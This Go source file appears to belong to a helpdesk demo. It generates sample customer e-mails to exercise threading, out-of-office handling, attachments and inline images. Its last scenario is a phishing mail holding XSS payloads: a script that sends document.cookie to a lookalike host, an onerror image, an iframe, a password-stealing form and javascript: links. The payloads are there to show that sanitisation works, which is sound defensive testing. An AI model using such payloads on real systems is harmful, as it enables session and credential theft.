package demo

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"strings"
	"time"
)

// generator writes the demo's mails: per round a new request, a reply
// that threads onto it, an out-of-office that is refused, a mail with an
// attachment, one with an inline image and a hostile HTML mail whose
// dangerous parts are removed.
type generator struct {
	n       int    // mails written
	lastNew string // Message-ID of this round's new request
	seed    string
	png     []byte
}

func newGenerator(now time.Time) *generator {
	return &generator{seed: fmt.Sprintf("%x", now.UnixNano()), png: screenshot()}
}

// scenarios, in the order they arrive.
var scenarios = []string{"a new request", "a reply that threads", "an out-of-office", "an attachment", "an inline image", "hostile HTML"}

// next returns the next mail and what it shows.
func (g *generator) next(now time.Time) ([]byte, string) {
	i, round := g.n%len(scenarios), g.n/len(scenarios)+1
	g.n++
	id := fmt.Sprintf("demo-%s-%d@demo.example", g.seed, g.n)
	suffix := ""
	if round > 1 {
		suffix = fmt.Sprintf(" (%d)", round)
	}
	h := func(from, subject string, extra ...string) string {
		return "From: " + from + "\r\nTo: Demo helpdesk <" + Mailbox + ">\r\nSubject: " + subject + suffix +
			"\r\nMessage-ID: <" + id + ">\r\nDate: " + now.UTC().Format(time.RFC1123Z) + "\r\nMIME-Version: 1.0\r\n" + strings.Join(extra, "")
	}
	var b strings.Builder
	switch i {
	case 0:
		g.lastNew = id
		b.WriteString(h("Camille Martin <camille.martin@customer.example>", "VPN drops every ten minutes"))
		b.WriteString("Content-Type: text/plain; charset=utf-8\r\n\r\n" +
			"Hello,\r\n\r\nSince this morning my VPN connection drops every ten minutes and I lose my remote session.\r\n" +
			"I am on the Lyon office Wi-Fi, laptop LT-0412.\r\n\r\nThanks,\r\nCamille\r\n")
	case 1:
		b.WriteString(h("Camille Martin <camille.martin@customer.example>", "Re: VPN drops every ten minutes",
			"In-Reply-To: <"+g.lastNew+">\r\nReferences: <"+g.lastNew+">\r\n"))
		b.WriteString("Content-Type: text/plain; charset=utf-8\r\n\r\n" +
			"It also happens on the wired network, so it is not the Wi-Fi.\r\n\r\n" +
			"> Since this morning my VPN connection drops every ten minutes\r\n")
	case 2:
		b.WriteString(h("Jordan Lee <jordan.lee@customer.example>", "Automatic reply: Planned maintenance on Saturday",
			"Auto-Submitted: auto-replied\r\nX-Auto-Response-Suppress: All\r\n"))
		b.WriteString("Content-Type: text/plain; charset=utf-8\r\n\r\nI am out of the office until Monday, with limited access to e-mail.\r\n")
	case 3:
		b.WriteString(h("Priya Shah <priya.shah@customer.example>", "Invoice 2026-114 does not match the order",
			"Content-Type: multipart/mixed; boundary=\"mixed-demo\"\r\n"))
		b.WriteString("\r\n--mixed-demo\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
			"Hello,\r\n\r\nThe attached invoice lists 12 licences; we ordered 10. Could you check?\r\n\r\nPriya\r\n" +
			"--mixed-demo\r\nContent-Type: application/pdf; name=\"invoice-2026-114.pdf\"\r\n" +
			"Content-Disposition: attachment; filename=\"invoice-2026-114.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
			wrap(base64.StdEncoding.EncodeToString([]byte(invoicePDF))) + "--mixed-demo--\r\n")
	case 4:
		b.WriteString(h("Lucas Moreau <lucas.moreau@customer.example>", "Printer shows error E-203 (screenshot inside)",
			"Content-Type: multipart/related; boundary=\"related-demo\"; type=\"text/html\"\r\n"))
		b.WriteString("\r\n--related-demo\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
			"<p>The printer on the second floor shows this since the update:</p>" +
			"<p><img src=\"cid:screenshot@demo.example\" alt=\"the printer's screen\" width=\"160\" height=\"60\"></p><p>Lucas</p>\r\n" +
			"--related-demo\r\nContent-Type: image/png; name=\"screen.png\"\r\nContent-ID: <screenshot@demo.example>\r\n" +
			"Content-Disposition: inline; filename=\"screen.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
			wrap(base64.StdEncoding.EncodeToString(g.png)) + "--related-demo--\r\n")
	case 5:
		b.WriteString(h("IT Service Desk <it-desk@lookalike.example>", "Your password expires today"))
		b.WriteString("Content-Type: text/html; charset=utf-8\r\n\r\n" +
			"<p>Your password expires today. <a href=\"javascript:alert('stolen')\">Keep my password</a></p>" +
			"<script>document.location='https://lookalike.example/?c='+document.cookie</script>" +
			"<img src=\"x\" onerror=\"alert('xss')\"><iframe src=\"https://lookalike.example/login\"></iframe>" +
			"<form action=\"https://lookalike.example/steal\"><input name=\"password\"></form>" +
			"<p style=\"background:url(javascript:alert(1))\">This mail's scripts, frames and forms are removed before anyone sees it.</p>\r\n")
	}
	return []byte(b.String()), scenarios[i]
}

// wrap cuts base64 into 76-character lines.
func wrap(s string) string {
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\r\n")
		s = s[76:]
	}
	return b.String() + s + "\r\n"
}

// screenshot draws the printer's "error" screen of the inline-image mail.
func screenshot() []byte {
	img := image.NewRGBA(image.Rect(0, 0, 160, 60))
	for y := range 60 {
		for x := range 160 {
			c := color.RGBA{0x1d, 0x27, 0x3b, 0xff}
			if y > 20 && y < 40 && x > 20 && x < 140 {
				c = color.RGBA{0xd6, 0x39, 0x39, 0xff}
			}
			img.Set(x, y, c)
		}
	}
	var buf bytes.Buffer
	png.Encode(&buf, img)
	return buf.Bytes()
}

// invoicePDF is a one-page PDF saying what the invoice is.
const invoicePDF = `%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >> endobj
4 0 obj << /Length 58 >> stream
BT /F1 14 Tf 24 90 Td (Invoice 2026-114: 12 licences) Tj ET
endstream endobj
5 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> endobj
trailer << /Root 1 0 R >>
%%EOF
`
